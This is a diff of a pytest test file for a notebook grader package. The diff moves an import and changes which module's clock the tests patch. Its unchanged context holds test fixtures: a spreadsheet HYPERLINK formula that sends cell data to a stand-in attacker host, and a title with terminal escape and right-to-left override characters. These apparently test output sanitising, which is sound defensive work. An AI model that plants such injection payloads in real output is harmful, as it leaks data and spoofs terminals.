@@ -11,11 +11,12 @@ import pytest
 from nbformat.v4 import new_code_cell, new_notebook
 from traitlets.config import Config
 
-from oxus.grader import execute
+from oxus.grader import conversation, execute
 from oxus.grader.budget import SETTINGS, Limits, reached
-from oxus.grader.execute import PipedExecute, Run
+from oxus.grader.execute import PipedExecute
 from oxus.grader.outcomes import Journal, Outcome, table, write_summary
 from oxus.grader.pipe import Pipe
+from oxus.grader.run import Run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2&C2,"click")'
 TITLE = "\x1b]0;owned\x07\u202e"
@@ -133,7 +134,7 @@ def clock(monkeypatch):
     class Clock:
         now = monotonic()
 
-    monkeypatch.setattr(execute, "monotonic", lambda: Clock.now)
+    monkeypatch.setattr(conversation, "monotonic", lambda: Clock.now)
     return Clock
 
 
@@ -176,7 +177,7 @@ def test_a_cell_that_never_ends_is_stopped_at_the_limit_of_the_notebook(clock, m
         clock.now += 50
         return clock.now
 
-    monkeypatch.setattr(execute, "monotonic", later)
+    monkeypatch.setattr(conversation, "monotonic", later)
     assert run(Child(answers), timeout=100_000).stopped == reached("seconds", Limits())
 
 
